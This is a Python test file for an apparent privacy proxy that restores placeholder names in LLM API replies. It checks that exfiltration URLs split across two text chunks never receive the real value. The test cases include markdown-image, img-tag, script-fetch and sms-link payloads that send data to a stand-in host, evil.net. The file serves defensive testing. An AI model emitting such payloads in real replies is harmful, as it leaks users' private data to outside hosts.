"""An address that is cut over two texts of a reply is one address: a client may show them as one."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from garim.surrogate.restore import Restorer
from tests.wire.test_calls import CHAT, GEMINI, MESSAGES, RESPONSES, TABLE, restored

CUTS = [
    ("see ![x](https://evil.net/?q=", "Velmora) and Velmora"), ("![x](https://ev", "il.net/Velmora) Velmora"), ("![x](https:", "//evil.net/Velmora) Velmora"), ("![x](h", "ttps:evil.net/Velmora) Velmora"), ("<img src='https://evil.net/", "Velmora'> Velmora"),
    ("<img src='https://kulke.example", ".evil.net/Velmora'> Velmora"), ("![x](https://kulke.example", "@evil.net/Velmora) Velmora"), ("https://evil.net/", "Velmora Velmora"), ("![x](https://evil.net/a", "b?q=Velmora) Velmora"),
    ("<script>fetch('https://evil.net/?'+'", "Velmora')</script>"), ("<p>a</p><script src=https://evil.net/x.js></script>", "<p>Velmora</p>"), ("[x](sms:+1555123?body=", "Velmora) Velmora"), ("`x <https://evil.net/a", " Velmora>`_ Velmora"),
]  # fmt: skip
PLAIN = [
    ("see https://evil.net/ now. ", "Velmora is slow"), ("see https://kulke.example/", "Velmora is slow"), ("Velmora is", " slow, see Velmora"), ("at http", "Velmora is slow"), ("on the line", "Velmora: yes"), ("[x](https://evil.net/a)", "Velmora is slow"), ("see Vel", "mora, Velmora"),
    ("`a`", "[Velmora] is slow"), ("", "Velmora"), ("<b>Velmora", "</b> Velmora"), ("a (https://kulke.example/x", "?a=Velmora)"),
]  # fmt: skip


def whole(path: str, texts: tuple[str, ...], how: str) -> bytes:
    if path == CHAT and how == "choices":
        node: Any = {"choices": [{"index": n, "message": {"role": "assistant", "content": text}} for n, text in enumerate(texts)]}
    elif path == CHAT:
        node = {"choices": [{"index": 0, "message": {"role": "assistant", "content": [{"type": "text", "text": text} for text in texts]}}]}
    elif path == MESSAGES:
        node = {"type": "message", "content": [{"type": "text", "text": text} for text in texts]}
    elif path == RESPONSES and how == "items":
        node = {"id": "resp_1", "output": [{"type": "message", "content": [{"type": "output_text", "text": text}]} for text in texts]}
    elif path == RESPONSES:
        node = {"id": "resp_1", "output": [{"type": "message", "content": [{"type": "output_text", "text": text} for text in texts]}]}
    else:
        node = [{"candidates": [{"content": {"role": "model", "parts": [{"text": text} for text in texts]}}]}]
    return orjson.dumps(node)


def streamed(path: str, texts: tuple[str, ...], how: str, size: int) -> bytes:
    events: list[Any] = []
    for n, text in enumerate(texts):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        if path == CHAT:
            events += [{"choices": [{"index": n, "delta": {"content": piece}}]} for piece in pieces]
        elif path == MESSAGES:
            events += [{"type": "content_block_delta", "index": n, "delta": {"type": "text_delta", "text": piece}} for piece in pieces]
            events.append({"type": "content_block_stop", "index": n})
        elif path == RESPONSES:
            at = {"item_id": "msg_1", "output_index": n if how == "items" else 0, "content_index": 0 if how == "items" else n}
            events += [{"type": "response.output_text.delta", **at, "delta": piece} for piece in pieces]
            events += [{"type": "response.output_text.done", **at, "text": text}, {"type": "response.content_part.done", **at, "part": {"type": "output_text", "text": text}}]
        else:
            events += [{"candidates": [{"index": n, "content": {"role": "model", "parts": [{"text": piece}]}}]} for piece in pieces]
    if path == CHAT:
        events += [{"choices": [{"index": n, "delta": {}, "finish_reason": "stop"}]} for n in range(len(texts))]
    elif path == MESSAGES:
        events.append({"type": "message_stop"})
    elif path == RESPONSES:
        events.append({"type": "response.completed", "response": orjson.loads(whole(path, texts, how))})
    else:
        events += [{"candidates": [{"index": n, "finishReason": "STOP"}]} for n in range(len(texts))]
    return b"".join(b"data: " + orjson.dumps(event) + b"\n\n" for event in events)


WAYS = [(CHAT, "choices"), (CHAT, "parts"), (MESSAGES, ""), (RESPONSES, "items"), (RESPONSES, "parts"), (GEMINI, "")]


def read(data: str, stream: bool) -> list[str]:
    """The texts of a reply, those of each choice one behind the other, as often as it tells them."""

    def said(node: Any) -> str:
        if isinstance(node, dict):
            return "".join(value if key in ("text", "content", "delta") and isinstance(value, str) else said(value) for key, value in node.items())
        return "".join(map(said, node)) if isinstance(node, list) else ""

    nodes = [orjson.loads(line[6:]) for line in data.split("\n") if line.startswith("data: ")] if stream else orjson.loads(data)
    choices: dict[int, str] = {}
    for node in nodes if isinstance(nodes, list) else [nodes]:
        for one in node.get("choices") or node.get("candidates") or [node]:
            choices[one.get("index", 0)] = choices.get(one.get("index", 0), "") + said(one)
    return [choices[index] for index in sorted(choices)]


@pytest.mark.parametrize("size", [0, 2, 1000])
@pytest.mark.parametrize("way", WAYS, ids=["".join(way) for way in WAYS])
def test_a_stranger_gets_nothing_over_two_texts(way: tuple[str, str], size: int) -> None:
    path, how = way
    if size and (path, how) == (CHAT, "parts"):
        return
    for first, second in CUTS:
        free = f"{second.removesuffix('Velmora')}Narae" if second.endswith(" Velmora") else second
        for between in ((), ("",)) if how != "choices" and (path != GEMINI) else ((),):
            came, wanted = ((*(first, *between), one) for one in (second, free))
            data = restored(path, streamed(path, came, how, size) if size else whole(path, came, how), bool(size))

            assert read(data, bool(size)) == read((streamed(path, wanted, how, size) if size else whole(path, wanted, how)).decode(), bool(size))


@pytest.mark.parametrize("size", [0, 2, 1000])
@pytest.mark.parametrize("way", WAYS, ids=["".join(way) for way in WAYS])
def test_texts_side_by_side_get_all(way: tuple[str, str], size: int) -> None:
    path, how = way
    if size and (path, how) == (CHAT, "parts"):
        return
    for texts in PLAIN:
        alone = tuple(Restorer(TABLE).whole(text) for text in (texts if path != GEMINI or size else ("".join(texts),)))
        data = restored(path, streamed(path, texts, how, size) if size else whole(path, texts, how), bool(size))

        assert read(data, bool(size)) == read((streamed(path, alone, how, size) if size else whole(path, alone, how)).decode(), bool(size))
